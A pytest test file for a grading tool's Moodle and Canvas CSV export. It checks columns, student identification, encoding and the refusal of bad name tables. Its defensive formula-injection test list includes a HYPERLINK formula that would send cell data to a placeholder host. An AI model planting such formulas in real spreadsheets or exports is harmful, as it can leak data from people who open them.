"""Moodle and Canvas: columns as they document them, no formulas, and no student confused with another."""

import copy
import csv
import io
import re

import pytest

from grading.faults import Usage
from grading.formats import Options, canvas, moodle
from grading.gradebook import read
from properties.hand_in import MODEL_SOLUTION

EXAMPLES = MODEL_SOLUTION.parent / "examples"
PLATFORMS = (moodle, canvas)
FORMULAS = ["=1+1", "+1", "-1", "@SUM(1)", "\t=1", '=HYPERLINK("http://x/?"&A1)', "a;=1", '"=1"', "＝1"]


@pytest.fixture
def reports():
    """A right hand-in and a wrong one."""
    return [read(EXAMPLES / name / "report.json") for name in ("loops", "summed")]


@pytest.fixture
def names(tmp_path):
    """Write a table of names and return the options with it."""

    def write(text, encoding="utf-8"):
        (tmp_path / "names.csv").write_text(text, encoding=encoding)
        return Options(names=tmp_path / "names.csv", title="HW3")

    return write


def rows(text):
    """The rows as Python's csv reads them, a dict each."""
    return list(csv.DictReader(io.StringIO(text)))


# --- Moodle


def test_moodle_gets_a_user_points_and_feedback(reports):
    """A row a hand-in; without a table of names its name is the username."""
    first, second = rows(moodle.table(reports, Options(title="HW3")))

    assert first == {
        "Username": "loops", "HW3 (Real)": "80", "HW3 (Feedback)": "Nothing is wrong.", "HW3 quiz (Real)": "0",
    }  # fmt: skip
    assert second["HW3 (Real)"] == "70"
    assert second["HW3 (Feedback)"] == "Lost: RNN Backward (dW_ih, dW_hh, db_ih, db_hh)"


def test_moodle_always_gets_grade_and_feedback_together(reports):
    """Feedback alone would clear the grades."""
    assert all(row["Homework (Real)"] and row["Homework (Feedback)"] for row in rows(moodle.table(reports, Options())))


def test_moodle_may_identify_users_otherwise(reports, names):
    """By ID number or email address, from a table; columns that are no identity are left out."""
    options = names("hand_in,ID number,Email address,Phone\nsummed,007,b@x.edu,1\nloops,0042,a@x.edu,2\n")
    text = moodle.table(reports, options)

    assert [row["ID number"] for row in rows(text)] == ["0042", "007"]
    assert text.split("\r\n")[0].startswith("ID number,Email address,HW3 (Real)")


# --- Canvas


class CanvasReads:
    """The parts of lib/gradebook_importer.rb that say what the head must be, and what a row means."""

    def __init__(self, text):
        head, *lines = csv.reader(io.StringIO(text))
        assert len(head) > 3
        assert "Student" in head[0]
        assert "ID" in head[1]
        assert re.search(r"SIS\s+User\s+ID", head[2])
        assert re.search(r"SIS\s+Login\s+ID", head[3])
        assert "Section" in head[4]
        assert not re.search("Current Score|Final Score|Final Grade|Override", ",".join(head[5:]))
        self.assignments = head[5:]
        self.possible = [line for line in lines if "Points Possible" in line[0]]
        self.grades = {tuple(line[:4]): line[5:] for line in lines if "Points Possible" not in line[0]}


def test_canvas_finds_head_points_and_students(reports):
    """Its own columns in its own order, points possible in the second row, the hand-in's name as the login."""
    seen = CanvasReads(canvas.table(reports, Options(title="Homework 3 (1234)")))

    assert seen.assignments == ["Homework 3 (1234)", "Homework 3 (1234) quiz"]
    assert seen.possible == [["Points Possible", "", "", "", "", "80", "10"]]
    assert seen.grades == {("", "", "", "loops"): ["80", "0"], ("", "", "", "summed"): ["70", "0"]}


def test_canvas_may_identify_students_otherwise(reports, names):
    """By all that is in a table."""
    text = 'hand_in,Student,ID,Section\nloops,"Doe, Jane",11,A\nsummed,"Roe, Max",12,B\n'

    assert set(CanvasReads(canvas.table(reports, names(text))).grades) == {
        ("Doe, Jane", "11", "", ""),
        ("Roe, Max", "12", "", ""),
    }


def test_canvas_is_not_told_other_points_by_a_hand_ins_name(reports):
    """An archive that is called as the second row is a student's."""
    reports[0]["submission"] = "Points Possible"
    seen = CanvasReads(canvas.table(reports, Options()))

    assert len(seen.possible) == 1
    assert ("", "", "", "Points Possible") in seen.grades


def test_a_student_who_is_called_as_the_second_row_is_refused(reports, names):
    """It would change the points of all."""
    with pytest.raises(Usage, match="Canvas would take 'Points Possible' for the second row"):
        canvas.table(reports, names("hand_in,Student\nloops,Points Possible\nsummed,B\n"))


# --- Both


@pytest.mark.parametrize("platform", PLATFORMS)
def test_there_is_no_byte_order_mark(platform, reports, tmp_path):
    """Before a quote it would spoil the head."""
    (file,) = platform.make(reports, tmp_path, Options())

    assert not file.read_bytes().startswith(b"\xef\xbb\xbf")


@pytest.mark.parametrize("platform", PLATFORMS)
def test_points_have_a_decimal_point(platform, reports):
    """And no more zeros than they need."""
    reports[0]["points"] = 77.5

    assert ",77.5," in platform.table(reports, Options())


@pytest.mark.parametrize("platform", PLATFORMS)
def test_without_a_quiz_there_is_no_column_for_it(platform, reports):
    """And where some have one, the others' cells are empty."""
    mixed = [reports[0], {key: value for key, value in reports[1].items() if key != "quiz"}]
    neither = [{key: value for key, value in report.items() if key != "quiz"} for report in reports]

    assert "quiz" not in platform.table(neither, Options())
    assert platform.table(mixed, Options()).rstrip().endswith(",")


@pytest.mark.parametrize("platform", PLATFORMS)
def test_a_total_is_told_once_everything_is_marked(platform, reports):
    """Before that its cell is empty, and where no hand-in has one there is no column."""
    total = {"quiz": 0, "code": 80, "report": 9, "points": 89, "max_points": 100}
    unmarked = {**total, "report": None, "points": 80}

    assert "total" not in platform.table([{**each, "total": unmarked} for each in reports], Options())
    both = [{**reports[0], "total": total}, {**reports[1], "total": unmarked}]
    assert [row.split(",")[-1] for row in platform.table(both, Options()).split("\r\n")[-3:-1]] == ["89", ""]


@pytest.mark.parametrize("platform", PLATFORMS)
def test_a_hand_in_without_a_grade_has_no_row(platform, reports):
    """Where it is our fault there is none; a 0 would be taken for one."""
    reports[1]["steps"][1]["outcome"] = "broken"

    assert "summed" not in platform.table(reports, Options())


@pytest.mark.parametrize("platform", PLATFORMS)
@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_a_formula(platform, text, reports, names):
    """Of names, titles and what else there is, where a spreadsheet would take it for one."""
    column = "Username" if platform is moodle else "Student"
    table = io.StringIO()
    csv.writer(table).writerows([["hand_in", column], ["loops", text], ["summed", "b"]])
    options = names(table.getvalue())
    cells = [cell for row in csv.reader(io.StringIO(platform.table(reports, options))) for cell in row]

    assert not [cell for cell in cells if re.match(r"[\s\"]*[=+\-@＝]", cell)]
    assert not [cell for cell in cells if ";=" in cell]


@pytest.mark.parametrize("platform", PLATFORMS)
def test_a_students_text_is_not_in_it(platform, reports):
    """Feedback is all ours."""
    odd = copy.deepcopy(reports)
    for report in odd:
        report.update(message="SECRET", printed="SECRET")
        for step in report["steps"]:
            for prop in step["properties"]:
                prop["message"] = "SECRET"

    assert "SECRET" not in platform.table(odd, Options())


@pytest.mark.parametrize("platform", PLATFORMS)
@pytest.mark.parametrize(
    ("table", "said"),
    [
        ("hand_in,Phone\nloops,1\n", "should have a column hand_in and one or more of"),
        ("name,Username,ID\nloops,a,1\n", "should have a column hand_in and one or more of"),
        ("", "should have a column hand_in"),
        ("hand_in,Username,ID\nloops,a,1\n", "has no row for the hand-in 'summed'"),
        ("hand_in,Username,ID\nloops,a,1\nsummed,a,1\n", "says that 'loops' and 'summed' are one student"),
    ],
)
def test_a_table_that_does_not_fit_is_refused(platform, table, said, reports, names):
    """In a sentence that names the file and what is wrong."""
    with pytest.raises(Usage, match=said):
        platform.table(reports, names(table))


def test_a_table_in_another_encoding_is_refused(reports, names):
    """Rather than names that are wrong."""
    with pytest.raises(Usage, match="is no CSV file in UTF-8"):
        moodle.table(reports, names("hand_in,Username\nloops,J\xfcrgen\nsummed,b\n", "latin-1"))


def test_a_byte_order_mark_in_the_table_does_no_harm(reports, names):
    """Spreadsheets write one."""
    assert "jane" in moodle.table(reports, names("hand_in,Username\nloops,jane\nsummed,max\n", "utf-8-sig"))
